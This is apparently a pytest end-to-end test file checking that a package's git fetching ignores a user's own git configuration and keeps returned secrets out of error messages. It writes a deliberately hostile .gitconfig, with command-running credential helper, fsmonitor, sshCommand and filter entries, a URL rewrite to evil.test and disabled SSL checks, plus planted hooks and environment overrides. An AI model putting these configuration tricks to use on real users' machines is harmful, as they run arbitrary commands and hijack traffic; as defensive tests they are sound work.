"""What git finds around itself, and what it says, have no effect and are not shown."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from ocibroker.bundle.git_way import Way
from ocibroker.errors import (
    ConfigurationError,
    OcibrokerError,
)
from ocibroker.testing import CannedResponse
from tests.bundle.forge import Forge
from tests.bundle.git_history import Work
from tests.e2e.git_server import git
from tests.transport.canary import Canary

pytestmark = pytest.mark.e2e


HOSTILE = """\
[url "https://evil.test/"]
	insteadOf = https://localhost
[credential]
	helper = "!touch {pwned}; echo username=eve; echo password=eve; :"
[core]
	hooksPath = {hooks}
	fsmonitor = touch {pwned}
	gitProxy = touch {pwned}
	sshCommand = touch {pwned}
[http]
	proxy = http://localhost:1
	sslVerify = false
	extraHeader = "X-Evil: yes"
[init]
	templateDir = {hooks}
[filter "evil"]
	smudge = touch {pwned}
	required = true
[fetch]
	recurseSubmodules = true
"""


def test_nothing_of_the_users_own_configuration_has_an_effect(here: Forge, tmp_path: Path) -> None:
    pwned, hooks, home = tmp_path / "pwned", tmp_path / "hooks", tmp_path / "user"
    for folder in (hooks, hooks / "hooks", home):
        folder.mkdir()
    for hook in (hooks / "post-checkout", hooks / "hooks" / "post-checkout", hooks / "reference-transaction"):
        hook.write_text(f"#!/bin/sh\ntouch {pwned}\n")
        hook.chmod(0o755)
    config = home / ".gitconfig"
    config.write_text(HOSTILE.format(pwned=pwned, hooks=hooks))
    (home / ".netrc").write_text("default login eve password eve\n")
    work = Work.begun(tmp_path / "work")
    commit = work.commit({"file": "content", ".gitattributes": "* filter=evil\n"})
    here.git.publish("private/app", work.folder)
    environ = {
        "HOME": str(home),
        "GIT_CONFIG_GLOBAL": str(config),
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.fsmonitor",
        "GIT_CONFIG_VALUE_0": f"touch {pwned}",
        "GIT_SSL_NO_VERIFY": "1",
        "GIT_ASKPASS": str(hooks / "post-checkout"),
        "GIT_EXEC_PATH": str(hooks),
        "GIT_TEMPLATE_DIR": str(hooks),
    }
    bundle = here.read(here.url("private/app"), here.broker(here.rule(), environ=environ))
    assert (bundle.resolved, (bundle.root / "file").read_text()) == (commit, "content")
    assert not pwned.exists()
    assert here.running.saw("x-evil") == []
    assert {*here.running.saw("authorization")} == {here.git.accounts["private"].basic}


def test_a_path_that_leads_to_git_alone_is_enough(here: Forge, commits: Mapping[str, str], tmp_path: Path) -> None:
    programs = tmp_path / "programs"
    programs.mkdir()
    (programs / "git").symlink_to(git())
    broker = here.broker(here.rule(), environ={"PATH": str(programs)})
    assert here.read(here.url("private/app"), broker).resolved == commits["main"]


def test_git_that_is_not_installed_is_named(here: Forge, tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match=r"git: is not installed \(install git"):
        here.read(here.url("open/app"), here.broker(environ={"PATH": str(tmp_path)}))


def test_no_error_shows_what_git_said(here: Forge, commits: Mapping[str, str], canary: Canary) -> None:
    """A server that quotes what it was sent."""
    password = canary.ascii.reveal()
    here.before = lambda request: CannedResponse(500, {}, password.encode()) if request.method == "POST" else None
    with pytest.raises(OcibrokerError) as caught:
        here.read(here.url("private/app"))
    assert canary.hits(repr(caught.value)) == []


def test_a_way_shows_no_answer(canary: Canary) -> None:
    way = Way(url="", protocol="", answers={"x": lambda: canary.ascii.reveal().encode()})
    assert "x" not in repr(way)
